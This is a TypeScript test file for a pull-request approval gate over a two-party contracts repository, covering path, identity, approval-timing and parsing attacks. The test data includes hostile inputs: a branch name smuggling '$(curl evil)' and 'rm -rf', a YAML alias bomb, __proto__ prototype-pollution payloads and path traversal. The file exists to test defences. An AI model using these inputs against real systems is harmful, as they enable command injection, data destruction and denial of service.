import { describe, expect, test } from 'vitest';
import { decide } from '../../src/gate/decide.js';
import { buildPolicy } from '../../src/gate/policy.js';
import {
  approve,
  bothApprove,
  CONTRACT,
  codes,
  contractWith,
  decideOn,
  event,
  file,
  H,
  headBy,
  minute,
  newContract,
  OLD,
  PEOPLE,
  policySource,
  policyWith,
  request,
  review,
  TERMS,
  userBy,
  WORKSPACE,
} from './scenario.js';

// Every attack of the design that a decision over facts can see, each with the verdict that it must get.

const { alice, ann, bob, carol, mallory, app } = PEOPLE;

describe('changing what decides', () => {
  test.each([
    ['the gate', 'src/gate/decide.ts'],
    ['the engine', 'src/settlement/settle.ts'],
    ['a schema', 'schemas/contract.schema.json'],
    ['a workflow', '.github/workflows/gate.yml'],
    ['the parties', 'contracts/workspace.yaml'],
    ['the lockfile', 'package-lock.json'],
    ['the owners', '.github/CODEOWNERS'],
    ['how files are shown', '.gitattributes'],
    ['how files of a contract are shown', `contracts/${CONTRACT}/.gitattributes`],
    ['a path nobody thought of', 'new-folder/x'],
  ])('%s needs the approvers of both parties', (_, path) => {
    const files = [file(path)];
    expect(decideOn(request({ files, reviews: [approve(alice), approve(ann)] })).state).toBe('pending');
    const verdict = decideOn(request({ files, reviews: bothApprove() }));
    expect(verdict.state).toBe('success');
    expect(verdict.parties.map(({ contract }) => contract)).toEqual([null, null]);
  });

  test('adding oneself as a signatory does not count in the pull request that does it', () => {
    const files = [file(`contracts/${CONTRACT}/contract.yaml`, { text: 'parties: { brand: { signatories: [mallory] } }' })];
    const verdict = decideOn(request({ files, author: userBy(bob), reviews: [approve(mallory), approve(carol)] }));
    expect(verdict.state).toBe('pending');
    expect(verdict.parties[0]).toMatchObject({ party: 'brand', approved: [] });
  });

  test('a contract together with the rules about it is refused, whoever approves', () => {
    const verdict = decideOn(request({ files: [TERMS, file('contracts/workspace.yaml')], reviews: bothApprove() }));
    expect(verdict.state).toBe('failure');
    expect(codes(verdict)).toContain('mixed');
  });
});

describe('names and kinds of files', () => {
  test('a rename into a contract’s folder changes the contract', () => {
    const moved = file(`contracts/${CONTRACT}/views/x.duckdb.sql`, {
      status: 'renamed',
      previousPath: 'contracts/other-contract/views/x.duckdb.sql',
    });
    const verdict = decideOn(request({ files: [moved] }));
    expect(verdict.parties.map(({ contract }) => contract)).toEqual(['other-contract', 'other-contract', CONTRACT, CONTRACT]);
  });

  test('a rename out of a contract’s folder changes the contract too', () => {
    const moved = file('docs/x.md', { status: 'renamed', previousPath: `contracts/${CONTRACT}/contract.yaml` });
    expect(decideOn(request({ files: [moved], reviews: bothApprove() })).state).toBe('failure');
  });

  test.each([
    ['a symbolic link', file(`contracts/${CONTRACT}/definitions.yaml`, { mode: '120000' }), 'symlink'],
    ['a submodule', file(`contracts/${CONTRACT}/views`, { mode: '160000' }), 'submodule'],
    ['a folder that differs by case', file('Contracts/x/contract.yaml'), 'odd-path'],
    ['a hidden character', file(`contracts/${CONTRACT}/events/2026-03-10-a\u200b.yaml`), 'odd-path'],
    ['a reversed name', file(`contracts/${CONTRACT}/\u202elmay.yaml`), 'odd-path'],
    ['a way out', file(`contracts/${CONTRACT}/../workspace.yaml`), 'odd-path'],
    ['a composed name in two forms', file(`contracts/${CONTRACT}/views/e\u0301.duckdb.sql`), 'odd-path'],
  ])('%s is refused, whoever approves', (_, changed, code) => {
    const verdict = decideOn(request({ files: [changed], reviews: bothApprove() }));
    expect(verdict.state).toBe('failure');
    expect(codes(verdict)).toContain(code);
  });

  test.each([
    ['a file', `contracts/${CONTRACT}/Contract.yaml`, `contracts/${CONTRACT}/contract.yaml`],
    ['a folder', `contracts/${CONTRACT}/Views/x.duckdb.sql`, `contracts/${CONTRACT}/views/y.duckdb.sql`],
    ['a look-alike', `contracts/${CONTRACT}/views/\uff58.duckdb.sql`, `contracts/${CONTRACT}/views/x.duckdb.sql`],
  ])('%s that collides with one that is there is refused', (_, path, there) => {
    const verdict = decideOn(request({ files: [file(path, { status: 'added' })], reviews: bothApprove() }), { paths: [there] });
    expect(verdict.state).toBe('failure');
    expect(codes(verdict)).toContain('collision');
  });

  test('a rename that only changes case collides with nothing', () => {
    const path = `contracts/${CONTRACT}/views/x.duckdb.sql`;
    const moved = file(path, { status: 'renamed', previousPath: `contracts/${CONTRACT}/views/X.duckdb.sql` });
    expect(decideOn(request({ files: [moved], reviews: bothApprove() }), { paths: [moved.previousPath ?? ''] }).state).toBe('success');
  });

  test('a status or mode that nobody knows is an error', () => {
    expect(decideOn(request({ files: [file(TERMS.path, { status: 'teleported' })], reviews: bothApprove() })).state).toBe('error');
    expect(decideOn(request({ files: [file(TERMS.path, { mode: null })], reviews: bothApprove() })).state).toBe('error');
  });
});

describe('approvals of something else', () => {
  test('a stale commit', () => {
    const verdict = decideOn(request({ reviews: [approve(alice, { commit: OLD }), approve(bob)] }));
    expect(verdict.state).toBe('pending');
    expect(codes(verdict)).toContain('approved-other-commit');
  });

  test.each([null, '', H.slice(0, 7), H.toUpperCase(), `${H} `])('a forged commit id: %j', (commit) => {
    expect(decideOn(request({ reviews: [approve(alice, { commit }), approve(bob)] })).state).toBe('pending');
  });

  test('a head that is no commit id is an error', () => {
    const head = headBy(mallory, { sha: 'main' });
    expect(decideOn(request({ head, reviews: [approve(alice, { commit: 'main' }), approve(bob, { commit: 'main' })] })).state).toBe(
      'error',
    );
  });

  test('a force push back to what was approved needs approval again', () => {
    const timeline = [{ kind: 'force_pushed' as const, at: minute(400) }];
    const verdict = decideOn(request({ reviews: bothApprove(), timeline }));
    expect(verdict.state).toBe('pending');
    expect(codes(verdict)).toContain('approved-before-push');
    const again = [approve(alice, { submittedAt: minute(401) }), approve(bob, { submittedAt: minute(402) })];
    expect(decideOn(request({ reviews: again, timeline })).state).toBe('success');
  });

  test('an approval against a feature branch that is then retargeted', () => {
    const timeline = [{ kind: 'base_changed' as const, at: minute(400) }];
    const verdict = decideOn(request({ reviews: bothApprove(), timeline }));
    expect(verdict.state).toBe('pending');
    expect(codes(verdict)).toContain('approved-before-base');
  });

  test('a twin pull request with the same commit and another base', () => {
    const reviews = bothApprove();
    const twin = request({ number: 8, base: { repositoryId: 5000, branch: 'feature' }, reviews });
    const verdict = decideOn(request({ reviews }), { sameHead: [twin] });
    expect(verdict.state).toBe('pending');
    expect(codes(verdict)).toContain('twin');
  });

  test('a harmless twin that passes lends nothing to one that does not', () => {
    const twin = request({ number: 8, reviews: bothApprove() });
    expect(decideOn(request({ reviews: [] }), { sameHead: [twin] }).state).toBe('pending');
    expect(decideOn(request({ reviews: bothApprove() }), { sameHead: [twin] }).state).toBe('success');
  });

  test('a twin whose head has moved meanwhile is an error', () => {
    const twin = request({ number: 8, head: headBy(mallory, { sha: OLD }), reviews: bothApprove() });
    expect(decideOn(request({ reviews: bothApprove() }), { sameHead: [twin] }).state).toBe('error');
  });
});

describe('orders of approving, objecting and dismissing', () => {
  const state = (steps: readonly ('approve' | 'request' | 'dismissed-request' | 'dismissed-approval')[]) => {
    const timeline: { kind: 'review_dismissed'; at: bigint; review: number }[] = [];
    const reviews = steps.map((step, index) => {
      const at = { submittedAt: minute(100 + index) };
      if (step === 'approve') return approve(bob, at);
      if (step === 'request') return review(bob, 'CHANGES_REQUESTED', at);
      const dismissed = review(bob, 'DISMISSED', at);
      timeline.push({ kind: 'review_dismissed', at: minute(300), review: dismissed.id });
      return dismissed;
    });
    return decideOn(request({ reviews: [approve(alice), ...reviews], timeline })).state;
  };

  test.each([
    ['approve', ['approve'], 'success'],
    ['approve → request', ['approve', 'request'], 'pending'],
    ['request → approve', ['request', 'approve'], 'success'],
    ['approve → request → dismissed', ['approve', 'dismissed-request'], 'pending'],
    ['request → dismissed → nothing', ['dismissed-request'], 'pending'],
    ['approve → dismissed', ['dismissed-approval'], 'pending'],
    ['request → approve → request', ['request', 'approve', 'request'], 'pending'],
  ] as const)('%s: %s', (_, steps, expected) => {
    expect(state(steps)).toBe(expected);
  });

  test('the same instant is ordered by the forge’s numbers', () => {
    const at = { submittedAt: minute(100) };
    const [first, second] = [review(bob, 'CHANGES_REQUESTED', at), approve(bob, at)];
    expect(decideOn(request({ reviews: [approve(alice), second, first] })).state).toBe('success');
    const [earlier, later] = [approve(bob, at), review(bob, 'CHANGES_REQUESTED', at)];
    expect(decideOn(request({ reviews: [approve(alice), later, earlier] })).state).toBe('pending');
  });
});

describe('who is who', () => {
  test('one person in both parties: the policy is refused', () => {
    const workspace = { ...WORKSPACE, governance: { brand: ['alice'], provider: ['alice', 'bob'] } };
    const result = buildPolicy(policySource({ workspace }));
    expect(result.problems.map(({ code }) => code)).toContain('policy-both-parties');
    const repository = { now: minute(600), paths: { items: [], complete: true, count: 0 } };
    expect(decide(result, { repository, pullRequest: request({ reviews: bothApprove() }), sameHead: [] }).state).toBe('error');
  });

  test('one person under two names is one person', () => {
    const workspace = {
      ...WORKSPACE,
      people: WORKSPACE.people.map((person) => (person.id === 'bob' ? { ...person, github: alice } : person)),
    };
    expect(buildPolicy(policySource({ workspace })).problems.map(({ code }) => code)).toContain('policy-both-parties');
  });

  test.each([
    ['no workspace', policySource({ workspace: null }), 'policy-missing'],
    ['an unknown signatory', policySource({ workspace: { ...WORKSPACE, people: WORKSPACE.people.slice(1) } }), 'policy-unknown-person'],
    ['nobody for the rules', policySource({ workspace: { ...WORKSPACE, governance: { brand: [], provider: ['bob'] } } }), 'policy-nobody'],
  ])('%s decides nothing', (_, source, code) => {
    const result = buildPolicy(source);
    expect(result.policy).toBeNull();
    expect(result.problems.map((problem) => problem.code)).toContain(code);
    const facts = {
      repository: { now: minute(600), paths: { items: [], complete: true, count: 0 } },
      pullRequest: request({ reviews: bothApprove() }),
      sameHead: [],
    };
    for (const policy of [null, policyWith()]) expect(decide({ policy, problems: result.problems }, facts).state).toBe('error');
  });

  test('a broken contract stops itself alone, and its mending needs both', () => {
    const policy = policyWith({
      contracts: new Map([
        [CONTRACT, null],
        ['other-contract', contractWith()],
      ]),
    });
    const other = file('contracts/other-contract/contract.yaml');
    expect(decideOn(request({ files: [other], reviews: bothApprove() }), { policy }).state).toBe('success');
    const mendedBy = (text: string, reviews = bothApprove()) =>
      decideOn(request({ files: [{ ...TERMS, text }], reviews }), { policy }).state;
    const mended = newContract(['alice'], ['bob']);
    expect(mendedBy('{ not a contract')).toBe('failure');
    expect(mendedBy(mended, [approve(alice), approve(ann)])).toBe('pending');
    expect(mendedBy(mended)).toBe('success');
  });

  test('the author does not approve', () => {
    const verdict = decideOn(request({ author: userBy(alice), reviews: bothApprove() }));
    expect(verdict.state).toBe('pending');
    expect(codes(verdict)).toContain('approved-as-author');
    expect(decideOn(request({ author: userBy(alice), reviews: [approve(ann), approve(bob)] })).state).toBe('success');
  });

  test('a single signatory who is the author is said to be stuck', () => {
    const contract = contractWith({
      parties: { brand: { name: 'B', signatories: ['alice'] }, provider: { name: 'A', signatories: ['bob'] } },
    });
    const { policy, problems } = buildPolicy(policySource({ contracts: new Map([[CONTRACT, contract]]) }));
    expect(problems).toEqual([]);
    if (policy === null) throw new Error('no policy');
    expect(codes(decideOn(request({ author: userBy(alice), reviews: bothApprove() }), { policy }))).toContain('nobody-left');
  });

  test('a recycled login has another id and is nobody', () => {
    expect(decideOn(request({ reviews: [approve(mallory), approve(bob)] })).state).toBe('pending');
  });

  test.each([
    ['a bot with a signatory’s id', { user: { id: alice, kind: 'bot' as const } }],
    ['an organisation', { user: { id: alice, kind: 'other' as const } }],
    ['a deleted account', { user: null }],
  ])('%s approves nothing', (_, changes) => {
    expect(decideOn(request({ reviews: [approve(alice, changes), approve(bob)] })).state).toBe('pending');
  });

  test('a deleted author changes nothing for the others', () => {
    expect(decideOn(request({ author: null, reviews: bothApprove() })).state).toBe('success');
  });
});

describe('what was not read', () => {
  test('an objection on a page that was not fetched', () => {
    const facts = request({ reviews: bothApprove() });
    expect(decideOn({ ...facts, reviews: { ...facts.reviews, complete: false } }).state).toBe('error');
    expect(decideOn({ ...facts, reviews: { ...facts.reviews, count: 31 } }).state).toBe('error');
  });

  test('half a list of the default branch’s paths, with which a new one could collide', () => {
    const { policy, problems } = buildPolicy(policySource());
    const decided = (complete: boolean) =>
      decide(
        { policy, problems },
        {
          repository: { now: minute(600), paths: { items: [], complete, count: null } },
          pullRequest: request({ reviews: bothApprove() }),
          sameHead: [],
        },
      ).state;
    expect([decided(true), decided(false)]).toEqual(['success', 'error']);
  });

  test('more files or commits than the forge shows', () => {
    const many = Array.from({ length: 3000 }, (_, index) => file(`contracts/${CONTRACT}/views/v${index}.duckdb.sql`));
    expect(codes(decideOn(request({ files: many, reviews: bothApprove() })))).toContain('list-too-long');
    const facts = request({ reviews: bothApprove() });
    const commits = Array.from({ length: 250 }, () => ({ sha: H }));
    expect(decideOn({ ...facts, commits: { items: commits, complete: true, count: 250 } }).state).toBe('error');
  });

  test('commits that do not end in the head', () => {
    const facts = request({ reviews: bothApprove() });
    expect(decideOn({ ...facts, commits: { items: [{ sha: OLD }], complete: true, count: 1 } }).state).toBe('error');
  });

  test('a state of a review that nobody knows, a dismissal that the timeline lacks, or a review without its time', () => {
    expect(decideOn(request({ reviews: [...bothApprove(), review(mallory, 'VETOED')] })).state).toBe('error');
    expect(decideOn(request({ reviews: [...bothApprove(), review(carol, 'DISMISSED')] })).state).toBe('error');
    expect(decideOn(request({ reviews: [...bothApprove(), review(carol, 'COMMENTED', { submittedAt: null })] })).state).toBe('error');
    expect(decideOn(request({ reviews: [...bothApprove(), review(carol, 'PENDING', { submittedAt: null })] })).state).toBe('success');
  });

  test('a success never hides an error beside it', () => {
    const dispute = event({ kind: 'dispute', party: 'brand', period: '2026-02', line: 'base', claimed: 1, reason: 'r', evidence: ['e'] });
    const facts = request({
      files: [dispute],
      author: userBy(alice),
      head: headBy(alice),
    });
    expect(decideOn(facts).state).toBe('success');
    expect(decideOn({ ...facts, reviews: { items: [], complete: false, count: null } }).state).toBe('error');
  });
});

describe('what the engine would refuse afterwards', () => {
  const fault = (line: number) => ({ path: `contracts/${CONTRACT}/contract.yaml`, line, code: 'unknown-reference' });

  test('is refused before, whoever approves: a default branch with an error has no policy', () => {
    const verdict = decideOn(request({ reviews: bothApprove(), faults: [fault(7)] }));
    expect(verdict.state).toBe('failure');
    expect(verdict.judgement.children.find(({ rule }) => rule === 'sound')?.saw).toEqual([
      { code: 'fault', with: { path: `contracts/${CONTRACT}/contract.yaml`, line: '7', code: 'unknown-reference' } },
    ]);
  });

  test('is refused of an event that a party may file alone: one party could otherwise stop everything', () => {
    const dispute = event({ kind: 'dispute', party: 'brand', period: '2026-02', line: 'none', claimed: 1, reason: 'r', evidence: ['e'] });
    const facts = request({ files: [dispute], author: userBy(alice), head: headBy(alice) });
    expect(decideOn(facts).state).toBe('success');
    expect(decideOn({ ...facts, faults: [fault(1)] }).state).toBe('failure');
  });

  test('is listed up to ten times', () => {
    const verdict = decideOn(request({ faults: Array.from({ length: 12 }, (_, index) => fault(index)) }));
    const saw = verdict.judgement.children.find(({ rule }) => rule === 'sound')?.saw ?? [];
    expect(saw.map(({ code }) => code)).toEqual([...Array.from({ length: 10 }, () => 'fault'), 'more-faults']);
    expect(saw.at(-1)?.with).toEqual({ count: '2' });
  });
});

describe('text that wants to be more than text', () => {
  const head = headBy(alice);
  const judge = (text: string) =>
    decideOn(request({ files: [event({}, '2026-03-10-x.yaml')].map((each) => ({ ...each, text })), author: userBy(alice), head }));

  test.each([
    ['a bomb', 'a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n'],
    ['a deep nest', '['.repeat(20_000)],
    ['duplicate keys', '{kind: payment, kind: exclusion, party: brand, amount: 1, on: 2026-03-10, reference: r}'],
    ['__proto__', '{"__proto__": {"kind": "payment"}, "party": "brand"}'],
    [
      'a prototype under a payment',
      '{"kind": "payment", "party": "brand", "amount": 1, "on": "2026-03-10", "reference": "r", "__proto__": {}}',
    ],
    ['two documents', 'kind: payment\n---\nkind: payment\n'],
    ['nothing', ''],
  ])('%s is no event that is filed alone', (_, text) => {
    expect(judge(text).state).toBe('pending');
  });

  test('what is well formed is', () => {
    expect(judge('{kind: payment, party: brand, amount: 1, on: 2026-03-10, reference: r}').state).toBe('success');
  });

  test('branch names and paths with a shell in them are only text', () => {
    const odd = headBy(mallory, { branch: '$(curl evil)`"; rm -rf' });
    expect(decideOn(request({ head: odd, reviews: [approve(alice)] })).state).toBe('pending');
  });

  test('a label or title that claims approval has no place in the facts', () => {
    expect(decideOn(request({ author: { id: app, kind: 'bot' }, reviews: [] })).state).toBe('pending');
  });
});
